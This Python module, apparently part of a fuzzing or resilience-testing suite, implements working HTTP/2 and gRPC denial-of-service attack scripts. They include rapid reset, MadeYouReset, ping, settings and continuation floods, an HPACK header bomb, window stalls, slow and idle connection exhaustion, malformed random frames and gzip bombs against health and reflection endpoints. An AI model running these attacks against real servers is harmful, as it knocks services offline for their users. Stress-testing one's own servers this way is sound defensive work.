"""Attacks of hostile clients on HTTP/2 servers. Each attack is a script for one connection.

A script runs until it is cancelled, or until the server closes the connection. Then it begins again on a new connection.
"""

import asyncio
import gzip
import random
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from typing import Final

from flywheel_proto.v1 import generation_pb2 as pb
from grpc_reflection.v1alpha.reflection_pb2 import ServerReflectionRequest
from h2.errors import ErrorCodes
from h2.settings import SettingCodes
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from fuzz.http2 import PREFACE, SERVICE, Connection, Tally, call, header_block, prefixed

BATCH: Final = 100
"""How many frames, or groups of frames, are written at a time."""

HEALTH: Final = "/grpc.health.v1.Health/"
CALL: Final = header_block("GenerateDeltas")
SHORT: Final = pb.GenerationRequest(text="x", max_tokens=1).SerializeToString()
LONG: Final = pb.GenerationRequest(text="x", max_tokens=4000, num_samples=16).SerializeToString()
# For a dynamic table with one entry, which is as large as the table.
INSERT_LARGEST: Final = b"\x40\x01x" + b"\x7f\xa1\x1e" + b"a" * 4000
LARGEST: Final = b"\xbe"
FRAME: Final = 16_384
"""The largest frame, in bytes, that a server takes unless it announces another limit."""
CHECK: Final = header_block("Check", service=HEALTH)
WATCH: Final = header_block("Watch", service=HEALTH)
GZIPPED_WATCH: Final = header_block("Watch", ("grpc-encoding", "gzip"), service=HEALTH)
REFLECTION: Final = header_block("ServerReflectionInfo", service="/grpc.reflection.v1.ServerReflection/")
NEARLY_4_MIB: Final = 4 * 2**20 - 100
"""Almost the largest message, in bytes, that a server takes by default."""


@dataclass(frozen=True)
class Attack:
    """A script, and the number of connections on which it runs at a time."""

    name: str
    script: Callable[[Connection], Awaitable[None]]
    connections: int = 4
    is_by_strangers: bool = False
    """Whether the server has a key, and the attackers do not know it."""

    async def run(self, host: str, port: int, seconds: float) -> Tally:
        """Attacks for so many seconds, and at least until there is a connection. Returns what was sent and what came back."""
        tally = Tally()

        async def keep_attacking() -> None:
            while True:
                await self._connect(host, port, tally)

        attackers = [asyncio.create_task(keep_attacking()) for _ in range(self.connections)]
        ended, _ = await asyncio.wait(attackers, timeout=seconds)
        while not ended and not tally.connections and not tally.answers:
            ended, _ = await asyncio.wait(attackers, timeout=0.01)
        for attacker in attackers:
            attacker.cancel()
        results = await asyncio.gather(*attackers, return_exceptions=True)
        if failures := [error for error in results if not isinstance(error, asyncio.CancelledError)]:
            raise RuntimeError("the attack itself failed") from failures[0]
        return tally

    async def _connect(self, host: str, port: int, tally: Tally) -> None:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except ConnectionError:
            tally.answers["refused"] += 1
            await asyncio.sleep(0.1)
            return
        tally.connections += 1
        connection = Connection(reader, writer, tally)
        script = asyncio.ensure_future(self.script(connection))
        reading = asyncio.create_task(connection.read())
        try:
            await asyncio.wait((reading, script), return_when=asyncio.FIRST_COMPLETED)
            if script.done() and not isinstance(script.exception(), ConnectionError):
                script.result()
        finally:
            connection.close()
            reading.cancel()
            script.cancel()
            await asyncio.gather(reading, script, return_exceptions=True)


async def rapid_reset(connection: Connection) -> None:
    """Begins calls and cancels each at once (CVE-2023-44487)."""
    await connection.start()
    while True:
        frames: list[Frame] = []
        for _ in range(BATCH):
            stream = connection.new_stream()
            frames += call(stream, CALL, SHORT)
            frames.append(RstStreamFrame(stream, error_code=ErrorCodes.CANCEL))
        await connection.send(frames)


async def made_you_reset(connection: Connection) -> None:
    """Begins calls and makes the server reset each, by a window update of 0 bytes (CVE-2025-8671)."""
    await connection.start()
    while True:
        frames: list[Frame] = []
        for _ in range(BATCH):
            stream = connection.new_stream()
            frames += call(stream, CALL, SHORT)
            # hyperframe does not make a wrong frame.
            frames.append(_Raw(stream, b"\0\0\0\0", kind=WindowUpdateFrame.type))
        await connection.send(frames)


async def unfinished_calls(connection: Connection) -> None:
    """Begins more calls than the server allows, and never sends their messages."""
    await connection.start()
    while True:
        await connection.send(HeadersFrame(connection.new_stream(), CALL, flags=["END_HEADERS"]) for _ in range(BATCH))


async def ping_flood(connection: Connection) -> None:
    """Pings without a pause (CVE-2019-9512)."""
    await connection.start()
    while True:
        await connection.send(PingFrame(0, b"flywheel") for _ in range(BATCH))


async def settings_flood(connection: Connection) -> None:
    """Changes settings without a pause (CVE-2019-9515)."""
    await connection.start()
    while True:
        await connection.send(
            SettingsFrame(0, settings={SettingCodes.INITIAL_WINDOW_SIZE: 65_535 - number % 2}) for number in range(BATCH)
        )


async def empty_data_flood(connection: Connection) -> None:
    """Sends empty parts of a message (CVE-2019-9518)."""
    await connection.start()
    stream = connection.new_stream()
    await connection.send([HeadersFrame(stream, CALL, flags=["END_HEADERS"])])
    while True:
        await connection.send(DataFrame(stream, b"") for _ in range(BATCH))


async def header_bomb(connection: Connection) -> None:
    """Sends headers of one byte each that decompress to 4 KiB (CVE-2016-6581)."""
    await connection.start()
    stream = connection.new_stream()
    await connection.send([HeadersFrame(stream, CALL + INSERT_LARGEST, flags=["END_HEADERS"])])
    block = CALL + LARGEST * (FRAME - len(CALL))
    while True:
        await connection.send([HeadersFrame(connection.new_stream(), block, flags=["END_HEADERS", "END_STREAM"])])


async def large_headers(connection: Connection) -> None:
    """Begins calls with 1 MiB of metadata each."""
    await connection.start()
    block = header_block("GenerateDeltas", *((f"x-{number}", "a" * 8000) for number in range(160)))
    parts = [block[start : start + FRAME] for start in range(0, len(block), FRAME)]
    while True:
        stream = connection.new_stream()
        frames: list[Frame] = [HeadersFrame(stream, parts[0])]
        frames += [ContinuationFrame(stream, part) for part in parts[1:]]
        frames[-1].flags.add("END_HEADERS")
        await connection.send(frames)


async def continuation_flood(connection: Connection) -> None:
    """Begins a call whose metadata never ends (CVE-2024-27316)."""
    await connection.start()
    stream = connection.new_stream()
    await connection.send([HeadersFrame(stream, CALL)])
    part = b"\x10\x01x\x01a" * BATCH  # a header of one letter, over and over
    while True:
        await connection.send(ContinuationFrame(stream, part) for _ in range(BATCH))


async def window_stall(connection: Connection) -> None:
    """Begins long calls, and never lets the server send a byte of their answers (CVE-2019-9517)."""
    await connection.start({SettingCodes.INITIAL_WINDOW_SIZE: 0})
    for _ in range(BATCH):
        await connection.send(call(connection.new_stream(), CALL, LONG))
    await asyncio.Event().wait()


async def half_open(connection: Connection) -> None:
    """Sends the first line of the protocol very slowly."""
    for byte in PREFACE:
        await connection.send_bytes(bytes([byte]))
        connection.tally.sent += 1
        await asyncio.sleep(5)


async def idle_connections(connection: Connection) -> None:
    """Connects, and does nothing."""
    await connection.start()
    await asyncio.Event().wait()


async def random_frames(connection: Connection) -> None:
    """Sends frames of any kind, with anything in them, to any of a few streams."""
    await connection.start()
    rng = random.Random(connection.tally.connections)
    while True:
        stream = connection.new_stream()
        frames = call(stream, CALL, SHORT)
        for _ in range(rng.randrange(4)):
            payload = rng.randbytes(rng.choice((0, 4, 5, 6, 8, rng.randrange(100))))
            frames.insert(rng.randrange(3), _Raw(rng.choice((0, 1, stream)), payload, rng.randrange(12), rng.randrange(256)))
        await connection.send(frames)


async def gzipped_watches(connection: Connection) -> None:
    """Watches the health of services with names of almost 4 MiB, which are compressed to 4 KiB."""
    await connection.start()
    name = b"\x0a" + _varint(NEARLY_4_MIB) + b"x" * NEARLY_4_MIB
    message = prefixed(gzip.compress(name), is_compressed=True)
    while True:
        stream = connection.new_stream()
        await connection.send([HeadersFrame(stream, GZIPPED_WATCH, flags=["END_HEADERS"]), DataFrame(stream, message)])


async def unfinished_checks(connection: Connection) -> None:
    """Begins requests of almost 4 MiB to health, and sends as much of each as the first window allows."""
    await connection.start()
    beginning = b"\0" + NEARLY_4_MIB.to_bytes(4) + b"x" * (3 * FRAME)
    parts = [beginning[start : start + FRAME] for start in range(0, len(beginning), FRAME)]
    while True:
        stream = connection.new_stream()
        await connection.send(
            [HeadersFrame(stream, CHECK, flags=["END_HEADERS"]), *(DataFrame(stream, part) for part in parts)]
        )
        # The window of the connection has room for one request.
        await asyncio.sleep(0.01)


async def open_watches(connection: Connection) -> None:
    """Watches health with more calls than the server allows."""
    await connection.start()
    while True:
        frames: list[Frame] = []
        for _ in range(BATCH):
            frames += call(connection.new_stream(), WATCH, b"")
        await connection.send(frames)


async def unread_watches(connection: Connection) -> None:
    """Watches health with many calls, and never lets the server send a byte of an answer."""
    await connection.start({SettingCodes.INITIAL_WINDOW_SIZE: 0})
    while True:
        frames: list[Frame] = []
        for _ in range(BATCH):
            frames += call(connection.new_stream(), WATCH, b"")
        await connection.send(frames)


async def open_reflection(connection: Connection) -> None:
    """Asks reflection for the file of the contract, and leaves each stream open."""
    await connection.start()
    request = ServerReflectionRequest(file_containing_symbol=SERVICE.strip("/")).SerializeToString()
    while True:
        frames: list[Frame] = []
        for _ in range(BATCH):
            stream = connection.new_stream()
            frames += [HeadersFrame(stream, REFLECTION, flags=["END_HEADERS"]), DataFrame(stream, prefixed(request))]
        await connection.send(frames)


def _varint(number: int) -> bytes:
    encoded = bytearray()
    while number > 0x7F:
        encoded.append(number & 0x7F | 0x80)
        number >>= 7
    return bytes([*encoded, number])


class _Raw(Frame):
    """A frame that may be wrong in every way."""

    def __init__(self, stream: int, payload: bytes, kind: int, flags: int = 0) -> None:
        super().__init__(0)
        self._serialized = b"".join(
            (len(payload).to_bytes(3), bytes((kind, flags)), stream.to_bytes(4), payload),
        )

    def serialize(self) -> bytes:
        """Returns the bytes of the frame."""
        return self._serialized


ATTACKS: Final = (
    Attack("rapid reset", rapid_reset),
    Attack("made you reset", made_you_reset),
    Attack("unfinished calls", unfinished_calls),
    Attack("ping flood", ping_flood),
    Attack("settings flood", settings_flood),
    Attack("empty data flood", empty_data_flood),
    Attack("header bomb", header_bomb),
    Attack("large headers", large_headers),
    Attack("continuation flood", continuation_flood),
    Attack("window stall", window_stall),
    Attack("half-open connections", half_open, connections=500),
    Attack("idle connections", idle_connections, connections=1500),
    Attack("random frames", random_frames, connections=8),
    Attack("gzipped Watch requests", gzipped_watches, is_by_strangers=True),
    Attack("unfinished health checks", unfinished_checks, is_by_strangers=True),
    Attack("open Watch streams", open_watches, connections=16, is_by_strangers=True),
    Attack("unread Watch streams", unread_watches, connections=16, is_by_strangers=True),
    Attack("open reflection streams", open_reflection, connections=16, is_by_strangers=True),
    Attack("unfinished calls without a key", unfinished_calls, is_by_strangers=True),
)
